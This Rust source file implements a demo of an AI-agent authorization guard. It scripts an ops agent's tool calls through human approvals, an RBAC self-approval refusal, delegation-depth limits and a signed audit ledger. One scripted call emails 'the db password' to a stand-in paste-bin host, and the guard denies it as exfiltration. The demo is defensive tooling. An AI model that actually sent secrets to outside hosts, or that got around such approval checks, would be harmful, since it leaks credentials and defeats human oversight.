//! `agentwarrant demo`: an operations agent fixing a production incident, on the default bundle.
//!
//! It shows routine reads flowing with no friction, a production change and a secret read
//! approved by a second person, an RBAC change refused when the owner approves it, a secret
//! sent outside denied as exfiltration, a call drifting beyond the intent sent for approval,
//! and a delegation chain cut at the depth limit.
//!
//! With `--interactive` the person at the terminal answers every approval request instead of
//! the script (see [`crate::prompt`]); the engine checks their answers as it checks any.

use std::io::IsTerminal;
use std::path::PathBuf;
use std::time::Duration;

use agentwarrant::ledger::CheckpointKey;
use agentwarrant::testing::{Script, ScriptedApprover};
use agentwarrant::{
    CallId, FileLedger, Guard, Identity, Impact, Intent, Outcome, Role, Task, Timeout, ToolCall,
    ToolSpec,
};
use serde_json::{json, Value};

use crate::prompt::{Answered, Prompter};

/// Why `--interactive` cannot run: nobody is at a terminal to answer.
pub(crate) const NOT_A_TERMINAL: &str =
    "--interactive needs a terminal; run without it for the scripted session";

/// How long the person at the terminal may take over one request before it is refused with
/// `approval_timeout`: generous, since they read the whole request first, and within the
/// request's own expiry (15 minutes).
const ANSWER_WITHIN: Duration = Duration::from_secs(10 * 60);

fn tools() -> Result<Vec<ToolSpec>, agentwarrant::BuildError> {
    Ok(vec![
        ToolSpec::builder("read_logs", Impact::Low)
            .scope("logs.read:{service}")
            .build()?,
        ToolSpec::builder("update_config", Impact::Medium)
            .scope("config.write:{service}")
            .build()?,
        ToolSpec::builder("read_secret", Impact::Low)
            .reads(["secret"])
            .scope("secrets.read:{path}")
            .build()?,
        ToolSpec::builder("grant_role", Impact::Medium)
            .tags(["rbac"])
            .scope("rbac.grant:{role}")
            .build()?,
        ToolSpec::builder("send_email", Impact::Medium)
            .external(true)
            .sink(true)
            .scope("email.send:{to}")
            .destination_arg("to")
            .sensitive_args(["body"])
            .build()?,
        ToolSpec::builder("restart_service", Impact::Medium)
            .scope("service.restart:{service}")
            .build()?,
        ToolSpec::builder("delegate", Impact::Low)
            .scope("agents.delegate:{agent}")
            .build()?,
    ])
}

/// One row of the table.
struct Row {
    step: usize,
    identity: String,
    tool: String,
    decision: String,
    reasons: String,
    approver: String,
}

/// Who answers the session's approval requests.
enum Approvers {
    /// The script: each step says who answers.
    Scripted(ScriptedApprover),
    /// The person at the terminal (`--interactive`).
    Interactive(Prompter),
}

impl Approvers {
    /// How many requests were put to the approver so far.
    fn asked(&self) -> usize {
        match self {
            Self::Scripted(approver) => approver.requests().len(),
            Self::Interactive(prompter) => prompter.asked(),
        }
    }
}

struct Session {
    approver: Approvers,
    rows: Vec<Row>,
}

impl Session {
    /// Authorizes and runs one call with `who` answering approvals; returns the call id when
    /// it ran.
    fn call(
        &mut self,
        task: &Task,
        who: Script,
        tool: &str,
        args: Value,
        parent: Option<CallId>,
    ) -> Option<CallId> {
        if let Approvers::Scripted(approver) = &self.approver {
            approver.set(who.clone());
        }
        let asked_before = self.approver.asked();
        let mut call = ToolCall::new(tool, args);
        if let Some(parent) = parent {
            call = call.child_of(parent);
        }
        let (decision, reasons, approver, ran) = match task.authorize(call) {
            Ok(warrant) => {
                let decision = if warrant.approved() {
                    "approved"
                } else {
                    "allowed"
                };
                let reasons = codes(warrant.decision().reasons.iter().map(|r| r.code.as_str()));
                let approver = warrant.approvers().join(", ");
                let id = warrant.call_id();
                if warrant.approved() && matches!(self.approver, Approvers::Interactive(_)) {
                    crate::prompt::tell(format_args!("=> approved by {approver}: `{tool}` runs"));
                }
                if let Err(error) = warrant.complete(Outcome::ok()) {
                    eprintln!("warning: {error}");
                }
                (decision, reasons, approver, Some(id))
            }
            Err(refusal) => {
                let asked = self.approver.asked() > asked_before;
                let approver = match &self.approver {
                    _ if !asked => String::new(),
                    Approvers::Scripted(_) => rejected(&who),
                    Approvers::Interactive(prompter) => {
                        let reasons: Vec<String> = refusal
                            .reasons
                            .iter()
                            .map(|reason| match &reason.detail {
                                Some(detail) => format!("{} ({detail})", reason.code),
                                None => reason.code.to_string(),
                            })
                            .collect();
                        crate::prompt::tell(format_args!(
                            "=> {}: {}",
                            refusal.kind.as_str(),
                            reasons.join(", ")
                        ));
                        answered(prompter.answer(refusal.call_id))
                    }
                };
                (
                    refusal.kind.as_str(),
                    codes(refusal.codes().into_iter()),
                    approver,
                    None,
                )
            }
        };
        self.rows.push(Row {
            step: self.rows.len() + 1,
            identity: task.identity().id().to_owned(),
            tool: tool.to_owned(),
            decision: decision.to_owned(),
            reasons,
            approver,
        });
        ran
    }
}

fn codes<'a>(codes: impl Iterator<Item = &'a str>) -> String {
    let mut seen: Vec<&str> = Vec::new();
    for code in codes {
        if !seen.contains(&code) {
            seen.push(code);
        }
    }
    seen.join(", ")
}

/// How a refused approver shows in the table.
fn rejected(script: &Script) -> String {
    match script {
        Script::Approve(who) => format!("{who} (rejected)"),
        Script::Deny(who) => format!("{who} (refused)"),
        Script::Unavailable => "none".into(),
    }
}

/// How an answer typed at the terminal shows in the table when the call was refused.
fn answered(answer: Option<Answered>) -> String {
    match answer {
        Some(Answered::Approved(who)) => format!("{who} (rejected)"),
        Some(Answered::Refused) => "(refused)".into(),
        Some(Answered::Nothing) | None => "none".into(),
    }
}

/// Plays the session and prints the table; the ledger is verified at the end. `interactive`:
/// the person at the terminal answers the approval requests.
pub(crate) fn run(ledger: Option<PathBuf>, interactive: bool) -> Result<u8, String> {
    // Checked before anything is written: a session nobody can answer is not started.
    if interactive && !std::io::stdin().is_terminal() {
        return Err(NOT_A_TERMINAL.into());
    }
    let path = ledger.unwrap_or_else(|| {
        std::env::temp_dir().join(format!("agentwarrant-demo-{}.jsonl", std::process::id()))
    });
    let error = |e: &dyn std::fmt::Display| e.to_string();
    let approver = if interactive {
        Approvers::Interactive(Prompter::new())
    } else {
        Approvers::Scripted(ScriptedApprover::new(Script::Unavailable))
    };
    // Checkpoints signed every 8 records and on close: `verify --key` proves nobody rewrote it.
    let key = CheckpointKey::generate();
    let ledger = FileLedger::options()
        .checkpoints(key.clone(), 8)
        .open(&path)
        .map_err(|e| error(&e))?;
    let builder = Guard::builder().tools(tools().map_err(|e| error(&e))?);
    let builder = match &approver {
        Approvers::Scripted(scripted) => builder.approver(scripted.clone()),
        Approvers::Interactive(prompter) => {
            builder.approver(Timeout::new(prompter.clone(), ANSWER_WITHIN))
        }
    };
    let guard = builder
        .ledger(ledger)
        .env("prod")
        .build()
        .map_err(|e| error(&e))?;
    let ops = Identity::builder("agent://acme/ops-bot", Role::Executor, "alice@acme.com")
        .ceiling([
            "logs.read:*",
            "config.write:*",
            "secrets.read:*",
            "rbac.grant:*",
            "email.send:*",
            "service.restart:*",
            "agents.delegate:*",
        ])
        .build()
        .map_err(|e| error(&e))?;
    let intent = Intent::builder("fix the checkout latency regression in prod")
        .scopes([
            "logs.read:*",
            "config.write:checkout",
            "secrets.read:checkout/*",
            "email.send:*@acme.com",
            "agents.delegate:*",
        ])
        .max_impact(Impact::Medium)
        .build()
        .map_err(|e| error(&e))?;
    let task = guard.begin(ops, intent).map_err(|e| error(&e))?;
    let researcher = Identity::builder("agent://acme/researcher", Role::Executor, "carol@acme.com")
        .ceiling(["logs.read:*", "agents.delegate:*"])
        .build()
        .map_err(|e| error(&e))?;
    let sub = task.delegate(researcher, None).map_err(|e| error(&e))?;

    let bob = || Script::Approve("bob@acme.com".into());
    let alice = || Script::Approve("alice@acme.com".into());
    let mut s = Session {
        approver,
        rows: Vec::new(),
    };
    s.call(
        &task,
        Script::Unavailable,
        "read_logs",
        json!({"service": "checkout"}),
        None,
    );
    s.call(
        &task,
        Script::Unavailable,
        "read_logs",
        json!({"service": "payments"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "update_config",
        json!({"service": "checkout", "pool_size": 64}),
        None,
    );
    s.call(
        &task,
        bob(),
        "read_secret",
        json!({"path": "checkout/db"}),
        None,
    );
    s.call(
        &task,
        alice(),
        "grant_role",
        json!({"role": "db-admin", "user": "ops-bot"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "send_email",
        json!({"to": "dump@paste-bin.example", "body": "the db password"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "restart_service",
        json!({"service": "payments"}),
        None,
    );
    // A delegation chain: each level hands the work one level down, until the depth limit.
    let mut parent = s.call(
        &task,
        Script::Unavailable,
        "delegate",
        json!({"agent": "researcher"}),
        None,
    );
    for _ in 0..4 {
        parent = s.call(
            &sub,
            Script::Unavailable,
            "delegate",
            json!({"agent": "researcher"}),
            parent,
        );
    }
    drop(sub);
    task.end().map_err(|e| error(&e))?;
    // The ledger closes (its closing checkpoint is written) when the last handle goes.
    drop(task);
    drop(guard);

    if interactive {
        // The table starts on its own line after the conversation.
        crate::prompt::tell(format_args!(""));
    }
    print_table(&s.rows);
    let verifying = key.verifying_key();
    let report = agentwarrant::ledger::verify_signed(&path, &verifying).map_err(|e| error(&e))?;
    let head = report.head;
    out!();
    out!(
        "ledger: {} ({} records, head {})",
        path.display(),
        head.records,
        head.hash
    );
    out!(
        "verify it with: agentwarrant verify {} --key {}",
        path.display(),
        verifying.to_hex()
    );
    Ok(crate::SUCCESS)
}

fn print_table(rows: &[Row]) {
    let header = [
        "step", "identity", "tool", "decision", "reasons", "approver",
    ];
    let cells: Vec<[String; 6]> = rows
        .iter()
        .map(|r| {
            [
                r.step.to_string(),
                r.identity.clone(),
                r.tool.clone(),
                r.decision.clone(),
                r.reasons.clone(),
                r.approver.clone(),
            ]
        })
        .collect();
    let widths: Vec<usize> = (0..6)
        .map(|i| {
            cells
                .iter()
                .map(|c| c[i].len())
                .chain([header[i].len()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |values: [&str; 6]| {
        let padded: Vec<String> = values
            .iter()
            .zip(&widths)
            .map(|(v, w)| format!("{v:<w$}"))
            .collect();
        out!("{}", padded.join("  ").trim_end());
    };
    line(header);
    line([
        "----", "--------", "----", "--------", "-------", "--------",
    ]);
    for c in &cells {
        line([&c[0], &c[1], &c[2], &c[3], &c[4], &c[5]]);
    }
}
